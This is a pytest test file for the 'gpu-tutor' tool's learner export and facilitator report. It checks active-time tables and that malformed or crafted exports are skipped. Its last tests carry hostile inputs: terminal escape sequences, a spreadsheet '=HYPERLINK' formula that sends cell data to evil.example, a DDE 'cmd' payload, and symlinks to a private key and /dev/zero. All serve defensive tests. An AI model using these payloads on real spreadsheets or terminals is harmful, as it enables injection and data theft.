"""Three learners export their progress and the facilitator's report reads the room from the files,
skipping the broken ones by name."""

import csv
import json
import os
import time
from pathlib import Path

import pytest

from tutor.workshop.learner import save_name
from tutor.store import Store
from cli_run import run_cli

ROOT = Path(__file__).resolve().parents[2]
NOW = float(int(time.time()))


def gpu_tutor(*args, data=None, cwd=None, timeout=120):
    env = {**os.environ, "GPU_TUTOR_NO_GPU": "1"}
    env.pop("GPU_TUTOR_WORKSHOP", None)
    if data is not None:
        env["GPU_TUTOR_DATA"] = str(data)
    return run_cli(*args, env=env, cwd=cwd or ROOT)


def minutes_ago(root, minutes):
    """The learner's store as it was `minutes` ago (the store's clock is injectable for exactly this)."""
    return Store(root, clock=lambda: NOW - minutes * 60)


class Session:
    """One learner's app, open from the first event to `close` (or still open), with a clock the test
    sets in minutes before NOW: every event in one store, as the app records them."""

    def __init__(self, root):
        self.t = NOW
        self.store = Store(root, clock=lambda: self.t)

    def at(self, minutes, seconds=0):
        self.t = NOW - minutes * 60 - seconds
        return self.store

    def keys(self, pid, *minutes):
        """A key press on `pid` at each of these minutes before NOW."""
        for m in minutes:
            self.at(m).record_activity(pid)


def make_class(tmp_path):
    """Three learners' sessions; active time counts gaps of up to 5 minutes between their events."""
    global NOW
    NOW = float(int(time.time()))  # whole seconds: stamps keep milliseconds; "so far" is measured from now: the report runs seconds later, not at collection
    ada, bo, cy = tmp_path / "ada", tmp_path / "bo", tmp_path / "cy"
    s = Session(ada)
    s.at(40).record_open("map")
    s.keys("map", 39)
    s.at(38).record_run("map", False)
    s.keys("map", 37, 36)
    s.at(35).record_run("map", True)       # map in 5 minutes
    s.at(35).record_open("zip")
    s.keys("zip", 34, 33, 32, 31)
    s.at(30).record_hint("zip", 1)
    s.at(29).record_run("zip", False)
    s.keys("zip", 28)
    s.at(27).record_run("zip", False)
    s.keys("zip", 26)
    s.at(25).record_run("zip", True)       # zip in 10 minutes
    s.at(20).record_open("dot")
    s.keys("dot", *range(19, 1, -1))      # on dot for 18 minutes, active 2 minutes ago: still on it
    s.store.flush_activity()               # the app's tick writes it (the app is still open)
    Store(ada).save_code("map", "# Ada's map\n")
    save_name(ada, "Ada")

    s = Session(bo)
    s.at(40).record_open("map")
    for m in (39, 37, 35, 33):
        s.at(m).record_run("map", False)
    s.at(32).record_hint("map", 2)
    s.at(31).record_hint("map", 2, ai=True)
    s.at(30).record_run("map", False)
    s.at(25).record_run("map", True)       # map in 15 minutes (the last gap, 5 minutes, counts)
    s.at(25).record_open("zip")
    for m in (20, 15, 10, 5):
        s.at(m).record_run("zip", False)
    s.keys("zip", 3)
    s.at(3).record_close()                 # on zip for 22 minutes, then closed the app: not still on it
    save_name(bo, "Bo")

    s = Session(cy)                        # no name given
    s.at(50, 3).record_open("dot")         # passed through dot for 3 seconds
    s.at(50).record_open("map")
    s.keys("map", 49, 48, 47, 46, 45)      # 5 minutes on map, then 20 minutes away (counts nothing)
    for m in range(9):
        s.at(25 - m).record_run("map", False)
    s.keys("map", *range(16, 10, -1))
    s.at(10).record_hint("map", 3)         # 20 minutes on map in all, active 10 minutes ago: still on it
    return ada, bo, cy


def test_export_then_report_on_a_class_gives_the_expected_table(tmp_path):
    workshop = tmp_path / "w.toml"
    workshop.write_text('title = "Friday GPU club"\npuzzles = ["map", "zip", "dot"]\n')
    exports = []
    for data in make_class(tmp_path):
        out = tmp_path / f"{data.name}.json"
        done = gpu_tutor("--workshop", str(workshop), "export", "--out", str(out), data=data)
        assert done.returncode == 0, done.stderr
        exports.append(out)
    cy_id = json.loads(exports[2].read_text())["learner"]["id"]
    assert json.loads(exports[2].read_text())["learner"]["name"] is None and cy_id.startswith("learner-")

    broken = tmp_path / "broken.json"
    broken.write_text(exports[1].read_text()[:200])  # a copy cut short
    edited = tmp_path / "edited.json"
    data = json.loads(exports[0].read_text())
    data["learner"]["id"] = "learner-someone-else"
    data["puzzles"][0]["attempts"] = -1
    edited.write_text(json.dumps(data))

    report_csv = tmp_path / "class.csv"
    done = gpu_tutor("report", *map(str, exports), str(broken), str(edited), str(tmp_path / "missing.json"),
                     "--csv", str(report_csv))
    assert done.returncode == 0, done.stderr
    cut, *others = done.stderr.splitlines()
    assert cut.startswith(f"gpu-tutor: skipped {broken}: is not valid JSON (")
    assert cut.endswith(", line 10); cut short while copying?")
    assert others == [
        f"gpu-tutor: skipped {edited}: puzzles[0] (map): attempts = -1 is not a valid value",
        f"gpu-tutor: skipped {tmp_path / 'missing.json'}: no such file",
    ]
    lines = done.stdout.splitlines()
    assert lines[0].startswith("Class progress: Friday GPU club · 3 learner(s) · 3 puzzle(s) · exported ")
    table = lines[lines.index("Who is where (progress: # solved, o opened, . not yet)") + 1:][:4]
    pad = " " * (len(cy_id) - len("learner"))
    assert table == [
        f"  learner{pad}  solved  now on  progress  runs  hint level  AI hints",
        f"  Ada    {pad}  2/3     dot     ##o       5     1           0",
        f"  Bo     {pad}  1/3     zip     #o.       10    2           1",
        f"  {cy_id}  0/3     map     o.o       9     3           0",
    ]
    start = lines.index("Puzzles, the longest hold-up first (median active time, to the solution or so far)")
    assert lines[start + 1:start + 7] == [
        "  puzzle  solved by  median active time  still on it  median runs  used hints     AI hints",
        "  zip     1/3        16m                 0            3.5          1 (deepest 1)  0",  # 10 and 22; Bo quit
        "  map     2/3        15m                 1            6            2 (deepest 3)  1",  # 5, 15 and 20
        "  dot     0/3        9m                  1            0            0              0",  # Ada's 18 min, Cy's 3 s
        "  active time: the app open and keys, edits or runs on the puzzle; idle gaps over 5 min left out",
        "  still on it: unsolved, the puzzle open last, active on it in the last 15 min, and the app not closed since",
    ]
    assert lines[-3:] == [f"wrote {report_csv} (3 learner(s) x 3 puzzle(s))",
                          f"wrote {tmp_path / 'class-misconceptions.csv'} (0 misconception(s))",
                          f"wrote {tmp_path / 'class-over-time.csv'} (puzzles solved every 5 min)"]

    rows = list(csv.DictReader(report_csv.open()))
    assert len(rows) == 9
    bo_zip = next(r for r in rows if r["learner"] == "Bo" and r["puzzle"] == "zip")
    assert (bo_zip["solved"], bo_zip["attempts"], bo_zip["now_on"], bo_zip["position"]) == ("false", "4", "true", "2")
    assert bo_zip["active_time_s"] == "1320.0"
    ada_map = next(r for r in rows if r["learner"] == "Ada" and r["puzzle"] == "map")
    assert (ada_map["time_to_solve_s"], ada_map["active_time_s"], ada_map["hint_levels_used"]) == \
        ("300.0", "300.0", "0")
    cy_dot = next(r for r in rows if r["puzzle"] == "dot" and r["learner_id"] == cy_id)
    assert (cy_dot["active_time_s"], cy_dot["now_on"]) == ("3.0", "false")


def test_code_is_exported_only_when_asked_for(tmp_path):
    ada = make_class(tmp_path)[0]
    plain, with_code = tmp_path / "plain.json", tmp_path / "code.json"
    assert gpu_tutor("export", "--out", str(plain), data=ada).returncode == 0
    done = gpu_tutor("export", "--out", str(with_code), "--with-code", data=ada)
    assert done.returncode == 0 and done.stdout == f"wrote {with_code}: Ada, 2 of 3 puzzles solved, with your code\n"
    assert all("code" not in p for p in json.loads(plain.read_text())["puzzles"])
    exported = {p["id"]: p for p in json.loads(with_code.read_text())["puzzles"]}
    assert list(exported) == ["map", "zip", "dot"]  # without a workshop: the puzzles opened, in order
    assert exported["map"]["code"] == "# Ada's map\n" and exported["zip"]["code"] is None


def test_export_names_the_file_after_the_learner_and_keeps_a_name_given_once(tmp_path):
    data = tmp_path / "data"
    minutes_ago(data, 5).record_open("map")
    done = gpu_tutor("export", "--name", "Grace Hopper", data=data, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "gpu-tutor-progress-grace-hopper.json").is_file()
    done = gpu_tutor("export", "--out", "-", data=data)
    assert json.loads(done.stdout)["learner"]["name"] == "Grace Hopper"
    bad = gpu_tutor("export", "--name", "   ", data=data)
    assert bad.returncode == 2 and bad.stderr.startswith("gpu-tutor: --name: Type your name")


def test_the_same_learner_exporting_twice_counts_once(tmp_path):
    ada = make_class(tmp_path)[0]
    first, second = tmp_path / "first.json", tmp_path / "second.json"
    assert gpu_tutor("export", "--out", str(first), data=ada).returncode == 0
    assert gpu_tutor("export", "--out", str(second), data=ada).returncode == 0
    done = gpu_tutor("report", str(first), str(second), "--csv", str(tmp_path / "c.csv"))
    assert done.returncode == 0 and "1 learner(s)" in done.stdout
    assert f"note: {first} and {second} are the same learner (Ada); using the newer, {second}" in done.stderr


def test_a_report_of_only_bad_files_fails_and_names_each(tmp_path):
    bad = tmp_path / "notes.json"
    bad.write_text('{"hello": 1}')
    done = gpu_tutor("report", str(bad), str(tmp_path), "--csv", str(tmp_path / "c.csv"))
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert f"skipped {bad}: is not a gpu-tutor progress export" in done.stderr
    # a folder stands for the exports in it: here the same bad file, named again
    assert done.stderr.count(f"skipped {bad}: is not a gpu-tutor progress export") == 2
    assert "none of the 2 file(s) or folder(s) could be read" in done.stderr
    assert not (tmp_path / "c.csv").exists()


# ---- time on a puzzle is active time (tutor.activity), and a closed app is on no puzzle


def hold_ups(done) -> list[list[str]]:
    """The report's hold-up table as [puzzle, solved by, median active time, still on it] rows."""
    lines = done.stdout.splitlines()
    start = next(n for n, line in enumerate(lines) if line.startswith("Puzzles, the longest hold-up first"))
    rows = []
    for line in lines[start + 2:]:
        if not line.startswith("  ") or line.startswith("  active time:"):
            break
        rows.append(line.split()[:4])
    return rows


def export_of(tmp_path, session: Session, name: str):
    out = tmp_path / f"{name}.json"
    assert gpu_tutor("export", "--out", str(out), data=session.store.root).returncode == 0
    return out


def test_a_puzzle_passed_through_in_seconds_is_not_the_longest_hold_up(tmp_path):
    """On main the puzzle opened for 3 s on the way to another ranked first, at 17 minutes: the clock
    since it was opened."""
    global NOW
    NOW = float(int(time.time()))
    s = Session(tmp_path / "ada")
    s.at(17, 3).record_open("map")
    s.at(17).record_open("zip")                  # left map after 3 s
    for m in range(16, 7, -1):
        s.at(m).record_run("zip", False)
    s.at(7).record_run("zip", True)              # zip: 10 minutes of work, solved; nothing since
    done = gpu_tutor("report", str(export_of(tmp_path, s, "ada")), "--csv", str(tmp_path / "c.csv"))
    assert done.returncode == 0, done.stderr
    assert hold_ups(done) == [["zip", "1/1", "10m", "0"], ["map", "0/1", "3s", "0"]]


@pytest.mark.parametrize("left, still_on_it", [
    ("working", "1"),             # a key a minute ago, app open
    ("closed the app", "0"),      # quit, or a served learner's browser tab closed (it quits the app)
    ("idle 20 minutes", "0"),     # an app left open (or killed, which writes no close) drops off after 15
])
def test_still_on_it_means_active_on_it_lately_in_an_app_still_open(tmp_path, left, still_on_it):
    global NOW
    NOW = float(int(time.time()))
    s = Session(tmp_path / "bo")
    idle = 20 if left == "idle 20 minutes" else 1
    s.at(idle + 10).record_open("map")
    s.keys("map", *range(idle + 9, idle - 1, -1))
    if left == "closed the app":
        s.at(0, 30).record_close()
    s.store.flush_activity(s.t + 60)
    done = gpu_tutor("report", str(export_of(tmp_path, s, "bo")), "--csv", str(tmp_path / "c.csv"))
    assert done.returncode == 0, done.stderr
    assert hold_ups(done) == [["map", "0/1", "10m", still_on_it]]


def old_export(zip_attempts: int) -> dict:
    """An export as gpu-tutor wrote it before active time and the live view: map solved, zip not."""
    return {"format": "gpu-tutor-progress", "version": 1, "exported_at": "2025-03-07T10:00:00.000+00:00",
            "learner": {"id": "learner-0ld0ld01", "name": "Old"}, "workshop": None, "current_puzzle": "zip",
            "puzzles": [{"id": "map", "solved": True, "solved_at": "2025-03-07T09:10:00.000+00:00", "attempts": 2,
                         "first_opened_at": "2025-03-07T09:00:00.000+00:00", "time_to_solve_s": 600.0,
                         "hint_levels_used": 0, "ai_hints_used": 0},
                        {"id": "zip", "solved": False, "solved_at": None, "attempts": zip_attempts,
                         "first_opened_at": "2025-03-07T09:10:00.000+00:00", "time_to_solve_s": None,
                         "hint_levels_used": 0, "ai_hints_used": 0}]}


def test_an_export_from_before_active_time_still_loads_and_says_its_times_are_unknown(tmp_path):
    """The export format of gpu-tutor before active time: no app_closed_at, no active keys."""
    old = old_export(zip_attempts=1)
    path = tmp_path / "old.json"
    path.write_text(json.dumps(old))
    done = gpu_tutor("report", str(path), "--csv", str(tmp_path / "c.csv"))
    assert done.returncode == 0 and done.stderr == ""
    # no time is made up from the clock; on it now is what an old file can say: unsolved and open last
    assert hold_ups(done) == [["zip", "0/1", "-", "1"], ["map", "1/1", "-", "0"]]
    assert (
        "  2 learner-puzzle record(s) have no active time (an older gpu-tutor did not keep it) and are left out "
        "of the medians; it counts from the learner's first session on an updated one") in done.stdout.splitlines()


def test_a_served_rooms_report_reads_the_close_of_a_learners_app(tmp_path):
    """A served room's folders are read live: a learner whose app has closed (their tab closed) is
    not on a puzzle, one whose app is open and active is."""
    global NOW
    NOW = float(int(time.time()))
    room = tmp_path / "room"
    gone, here = Session(room / "learners" / "gone"), Session(room / "learners" / "here")
    for s in (gone, here):
        s.at(5).record_open("map")
        s.keys("map", 4, 3, 2)
    gone.at(1).record_close()
    here.store.flush_activity(here.t + 60)
    done = gpu_tutor("report", str(room), "--csv", str(tmp_path / "c.csv"))
    assert done.returncode == 0, done.stderr
    assert hold_ups(done) == [["map", "0/2", "3m", "1"]]


# ---- exports that are not what they say: each one fooled the reader before


OBEYED = ("\x1b", "\x07", "\x9b", "\u202e")  # what a terminal acts on instead of showing


def an_export(tmp_path, name, learner_id, **changes):
    """A real export of a learner who solved map, then edited the way an attacker would."""
    from tutor.workshop.export import build_export
    from tutor.workshop.learner import Learner

    root = tmp_path / f"data-{learner_id}"
    minutes_ago(root, 10).record_open("map")
    minutes_ago(root, 5).record_run("map", True)
    data = build_export(Store(root), Learner(learner_id, name), ["map"])
    data.update(changes)
    path = tmp_path / f"{learner_id}.json"
    path.write_text(json.dumps(data))
    return path


def test_names_titles_and_ids_in_exports_are_shown_escaped_never_obeyed(tmp_path):
    evil = an_export(tmp_path, "\x1b]0;pwned\x07\x1b[2JEve\u202e", "learner-evil",
                     workshop={"title": "\x1b]8;;https://evil.example\x1b\\Friday\x1b]8;;\x1b\\", "puzzles": ["map"]},
                     current_puzzle="map\x9b31m")
    surrogate = an_export(tmp_path, "Bo\udc80", "learner-bo")  # a lone surrogate: print() itself used to crash
    plain = an_export(tmp_path, "Ada", "learner-ada")
    done = gpu_tutor("report", str(evil), str(surrogate), str(plain), "--csv", str(tmp_path / "c.csv"))
    assert done.returncode == 0, done.stderr
    assert not any(c in done.stdout + done.stderr for c in OBEYED)
    assert done.stdout.splitlines()[0].startswith(
        "Class progress: \\x1b]8;;https://evil.example\\x1b\\Friday\\x1b]8;;\\x1b\\ · 3 learner(s)")
    rows = [line for line in done.stdout.splitlines() if "1/1" in line]
    assert rows[0].startswith("  \\x1b]0;pwned\\x07\\x1b[2JEve\\u202e  1/1     map\\x9b31m")
    assert rows[1].startswith("  Ada  ") and rows[2].startswith("  Bo\\udc80  ")
    assert len({row.index("1/1") for row in rows}) == 1  # escaped before measuring: the columns line up


def test_an_export_with_infinity_a_400_digit_number_or_a_wrong_type_is_skipped_and_the_rest_reported(tmp_path):
    good = an_export(tmp_path, "Ada", "learner-ada")
    text = good.read_text()
    bad = {}
    for name, old, new in [("inf", '"time_to_solve_s": 300.0', '"time_to_solve_s": Infinity'),
                           ("nan", '"time_to_solve_s": 300.0', '"time_to_solve_s": NaN'),
                           ("e400", '"time_to_solve_s": 300.0', '"time_to_solve_s": 1e400'),
                           ("digits400", '"attempts": 1', '"attempts": ' + "9" * 400),
                           ("digits5000", '"attempts": 1', '"attempts": ' + "9" * 5000),
                           ("text", '"attempts": 1', '"attempts": "1"')]:
        assert old in text, old
        bad[name] = tmp_path / f"{name}.json"
        bad[name].write_text(text.replace(old, new).replace("learner-ada", f"learner-{name}"))
    done = gpu_tutor("report", *map(str, bad.values()), str(good), "--csv", str(tmp_path / "c.csv"))
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert "1 learner(s)" in done.stdout.splitlines()[0]
    why = dict(line.removeprefix("gpu-tutor: skipped ").split(": ", 1) for line in done.stderr.splitlines())
    assert why[str(bad["inf"])].startswith("holds Infinity, which no count or time can be: edited since gpu-tutor "
                                           "wrote it? ask the learner for a fresh `gpu-tutor export`")
    assert why[str(bad["nan"])].startswith("holds NaN")
    assert why[str(bad["e400"])].startswith("holds 1e400, a number past the range of a float")
    assert why[str(bad["digits400"])].startswith("holds an integer of 400 digits (gpu-tutor writes at most 20)")
    assert why[str(bad["digits5000"])].startswith("holds an integer of 5000 digits")
    assert why[str(bad["text"])] == "puzzles[0] (map): attempts = '1' is not a valid value"


def test_a_pipe_a_link_to_dev_zero_or_a_symlink_among_the_exports_is_skipped_without_waiting(tmp_path):
    good = an_export(tmp_path, "Ada", "learner-ada")
    os.mkfifo(tmp_path / "pipe.json")  # nobody ever writes to it: today's reader waits for ever
    (tmp_path / "zero.json").symlink_to("/dev/zero")  # never ends: today's reader fills memory
    (tmp_path / "link.json").symlink_to(good)
    files = [tmp_path / n for n in ("pipe.json", "zero.json", "link.json")]
    done = gpu_tutor("report", *map(str, files), str(good), "--csv", str(tmp_path / "c.csv"), timeout=30)
    assert done.returncode == 0, done.stderr
    assert done.stderr.splitlines() == [
        f"gpu-tutor: skipped {files[0]}: is a named pipe (FIFO), not a regular file; remove it or put a regular "
        "file in its place",
        f"gpu-tutor: skipped {files[1]}: is a symbolic link, which gpu-tutor does not follow here; put the file "
        "itself in its place",
        f"gpu-tutor: skipped {files[2]}: is a symbolic link, which gpu-tutor does not follow here; put the file "
        "itself in its place",
    ]
    assert "1 learner(s)" in done.stdout


def test_export_with_code_never_follows_a_link_nor_waits_on_a_pipe_and_says_what_it_left_out(tmp_path):
    data = tmp_path / "data"
    for pid in ("map", "zip", "dot"):
        minutes_ago(data, 5).record_open(pid)
    Store(data).save_code("dot", "# my dot\n")
    secret = tmp_path / "id_rsa"
    secret.write_text("-----BEGIN PRIVATE KEY-----\n")
    (data / "code" / "map.py").symlink_to(secret)  # today's export copies the key into the file
    os.mkfifo(data / "code" / "zip.py")
    out = tmp_path / "out.json"
    done = gpu_tutor("export", "--with-code", "--out", str(out), data=data, timeout=30)
    assert done.returncode == 0, done.stderr
    assert "PRIVATE KEY" not in out.read_text()
    code = {p["id"]: p["code"] for p in json.loads(out.read_text())["puzzles"]}
    assert code == {"map": None, "zip": None, "dot": "# my dot\n"}
    assert done.stderr.splitlines() == [
        f"note: your code for 'map' was left out of the export: {data / 'code' / 'map.py'} is a symbolic link, which "
        "gpu-tutor does not follow here; put the file itself in its place",
        f"note: your code for 'zip' was left out of the export: {data / 'code' / 'zip.py'} is a named pipe (FIFO), "
        "not a regular file; remove it or put a regular file in its place",
    ]


def test_a_pipe_for_the_progress_file_or_dev_zero_for_learner_json_does_not_stop_an_export(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    os.mkfifo(data / "state.json")
    (data / "learner.json").symlink_to("/dev/zero")
    out = tmp_path / "out.json"
    done = gpu_tutor("export", "--out", str(out), data=data, timeout=30)
    assert done.returncode == 0, done.stderr
    assert "your progress file was unreadable (is a named pipe (FIFO)" in done.stderr
    assert json.loads(out.read_text())["learner"]["id"].startswith("learner-")
    assert (data / "learner.json").is_file() and not (data / "learner.json").is_symlink()


def test_ids_with_escapes_in_state_or_learner_json_never_reach_the_terminal(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / "state.json").write_text(json.dumps({"version": 1, "puzzles": {"\x1b]0;pwned\x07": {}}}))
    (data / "learner.json").write_text(json.dumps({"id": "\x1b[2Jlearner-1", "name": None}))
    done = gpu_tutor("export", "--out", str(tmp_path / "out.json"), data=data)
    assert done.returncode == 0, done.stderr
    assert not any(c in done.stdout + done.stderr for c in OBEYED)
    assert "part of your progress file was unreadable (\\x1b]0;pwned\\x07)" in done.stderr
    learner_id = json.loads((tmp_path / "out.json").read_text())["learner"]["id"]
    assert learner_id.startswith("learner-") and "\x1b" not in learner_id  # a fresh id in place of the bad one


def test_the_report_reads_a_served_rooms_folders_without_exports_and_writes_nothing_there(tmp_path):
    """`gpu-tutor serve` keeps a data folder per browser under DIR/learners; the facilitator points
    `report` at DIR. The folders are live (an app may be saving), so the report only reads them: a
    damaged progress file is named, not moved aside, and a folder with no id yet gets none."""
    room = tmp_path / "room"
    (room / "learners").mkdir(parents=True)
    for data in make_class(room / "learners"):
        assert (data / "learner.json").exists() or data.name == "cy"
    (room / "learners" / "cy" / "learner.json").unlink(missing_ok=True)
    damaged = room / "learners" / "dee"
    damaged.mkdir()
    (damaged / "state.json").write_text("{not json")
    (room / "room.json").write_text(json.dumps({"format": "gpu-tutor-room", "title": "Served club",
                                                "puzzles": ["map", "zip", "dot"], "workshop": None}))
    before = {p: p.stat().st_mtime_ns for p in room.rglob("*")}
    done = gpu_tutor("report", str(room), "--csv", str(tmp_path / "class.csv"))
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0].startswith("Class progress: Served club · 4 learner(s) · 3 puzzle(s)")
    table = lines[lines.index("Who is where (progress: # solved, o opened, . not yet)") + 1:][:5]
    assert [row.split()[:3] for row in table[1:]] == [
        ["Ada", "2/3", "dot"], ["Bo", "1/3", "zip"], ["cy", "0/3", "map"], ["dee", "0/3", "-"]]
    assert f"{damaged / 'state.json'} was unreadable" in done.stderr
    after = {p: p.stat().st_mtime_ns for p in room.rglob("*")}
    assert after == before  # nothing moved aside, swept, or given an id


def test_a_folder_of_exports_and_an_empty_folder(tmp_path):
    exports = tmp_path / "exports"
    exports.mkdir()
    for data in make_class(tmp_path):
        assert gpu_tutor("export", "--out", str(exports / f"{data.name}.json"), data=data).returncode == 0
    (tmp_path / "empty").mkdir()
    done = gpu_tutor("report", str(exports), str(tmp_path / "empty"), "--csv", str(tmp_path / "c.csv"))
    assert done.returncode == 0, done.stderr
    assert " · 3 learner(s) · " in done.stdout.splitlines()[0]
    assert f"skipped {tmp_path / 'empty'}: is a folder with no export files, learner folders or progress" \
        in done.stderr


def test_a_name_or_id_that_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    """A learner who types `=HYPERLINK(...)` as a name, or edits an export's id and puzzle order so,
    must not get a formula into the facilitator's spreadsheet: the CSV keeps the text, quoted."""
    import pytest

    for typed in ("=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)"):
        with pytest.raises(ValueError, match="start your name with a letter or a digit"):
            save_name(tmp_path / "nobody", typed)
    assert save_name(tmp_path / "nobody", "Ada-Marie = 1").name == "Ada-Marie = 1"  # inside is fine

    ada = make_class(tmp_path)[0]
    out = tmp_path / "ada.json"
    assert gpu_tutor("export", "--out", str(out), data=ada).returncode == 0
    data = json.loads(out.read_text())
    data["learner"] = {"id": "@SUM(1+1)*cmd|'/c calc'!A0", "name": "=HYPERLINK(\"http://evil.example/\",\"Ada\")"}
    out.write_text(json.dumps(data))
    table = tmp_path / "class.csv"
    done = gpu_tutor("report", str(out), "--csv", str(table))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(table.open()))
    assert rows and all(r["learner"] == "'=HYPERLINK(\"http://evil.example/\",\"Ada\")" for r in rows)
    assert all(r["learner_id"] == "'@SUM(1+1)*cmd|'/c calc'!A0" for r in rows)
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
